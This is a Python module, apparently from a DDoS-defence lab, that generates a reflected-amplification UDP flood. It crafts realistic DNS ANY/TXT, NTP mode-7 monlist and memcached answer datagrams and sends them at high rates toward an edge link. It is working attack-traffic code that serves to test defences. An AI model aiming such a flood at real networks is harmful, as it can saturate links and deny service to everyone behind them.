"""Reflected answers: large UDP datagrams from servers that were asked in the edge's name.

The sources are real servers of three well-known kinds, which do not know what they are used for. What they
send looks as it does in life, answers of open resolvers, of NTP servers (the list of their last clients)
and of memcached; one datagram after the other, and none of them was wanted. It is aimed at the link, which it
takes the larger part of: filling it all would harm everybody alike, whatever stands at the edge.
"""

from __future__ import annotations

import numpy as np
from pydantic import Field, field_validator

from rempart.lab.attacks.contract import Attack, AttackParameters, Order, Sources, Unit
from rempart.lab.attacks.ip_frames import UDP, UDP_HEADER, Packet, any_ports, flood, udp
from rempart.lab.attacks.packets import BATCH, Frames, put16
from rempart.lab.attacks.reporting import Tally, own_sender, run_sender

DNS, NTP, MEMCACHED = 53, 123, 11_211


class ReflectedAnswerFlood(AttackParameters):
    """Which servers, and how large their answers are."""

    size: int = Field(default=1_200, ge=64, le=1_440)
    """Octets of each datagram's payload."""
    servers: str = "53,123,11211"
    """Source ports, divided by commas; each has an equal share."""

    @field_validator("servers")
    @classmethod
    def _known(cls, text: str) -> str:
        if not text or any(part not in {str(DNS), str(NTP), str(MEMCACHED)} for part in text.split(",")):
            raise ValueError(f"servers are some of {DNS},{NTP},{MEMCACHED}")
        return text

    @property
    def ports(self) -> tuple[int, ...]:
        return tuple(int(part) for part in self.servers.split(","))


REFLECTED_ANSWER_FLOOD = Attack(
    name="reflected-answer-flood",
    unit=Unit.PACKETS,
    summary="large answers of DNS, NTP and memcached servers that were asked in the edge's name",
    # A quarter of a gigabit: what is more than the edge's link can only be fought before it.
    defaults=ReflectedAnswerFlood(rate=25_000, sources=Sources.PREFIXES, source_count=5_000),
    sender=lambda order: own_sender(order, "reflected_answer_flood", packets=True),
)


def answer(port: int, size: int) -> bytes:
    """What a server of this kind sends, in ``size`` octets."""
    match port:
        case 53:
            # One question (ANY of example.com) and as many TXT records of 200 octets as have room.
            question = b"\x07example\x03com\x00\x00\xff\x00\x01"
            record = b"\xc0\x0c\x00\x10\x00\x01\x00\x00\x0e\x10\x00\xc8\xc7" + b"v" * 199
            count = (size - 12 - len(question)) // len(record)
            head = b"\x00\x00\x81\x80\x00\x01" + count.to_bytes(2, "big") + bytes(4)
            whole = head + question + record * count + bytes(size)
        case 123:
            # Mode 7, an answer of MON_GETLIST_1 with entries of 72 octets.
            entries = (size - 8) // 72
            whole = bytes((0xD7, 0x00, 0x03, 0x2A)) + entries.to_bytes(2, "big") + b"\x00\x48" + bytes(size)
        case _:
            # The frame header of memcached's UDP, then a piece of a value.
            whole = b"\x00\x00\x00\x01\x03\xe8\x00\x00" + b"VALUE a 0 1048576\r\n" + b"a" * size
    return whole[:size]


def packet(parameters: ReflectedAnswerFlood) -> Packet:
    """An answer nobody asked for."""
    ports = np.array(parameters.ports, dtype=np.uint32)
    answers = np.array([list(answer(port, parameters.size)) for port in parameters.ports], dtype=np.uint8)

    def renew(frames: Frames, at: int, chosen: np.random.Generator) -> None:
        kinds = chosen.integers(0, len(ports), BATCH)
        put16(frames, at, ports[kinds])
        put16(frames, at + 2, any_ports(chosen))
        payload = at + UDP_HEADER
        frames[:, payload:] = answers[kinds]
        # A DNS answer has the number of the question that it belongs to.
        numbers = chosen.integers(0, 256, (BATCH, 2), dtype=np.uint8)
        of_dns = ports[kinds] == DNS
        frames[of_dns, payload : payload + 2] = numbers[of_dns]

    return Packet(UDP, udp(0, bytes(parameters.size)), renew, checksum_at=6)


def carry_out(order: Order, tally: Tally) -> None:
    parameters = ReflectedAnswerFlood.model_validate(order.parameters)
    flood(order, parameters, tally, lambda v6: packet(parameters))


if __name__ == "__main__":
    run_sender(carry_out)
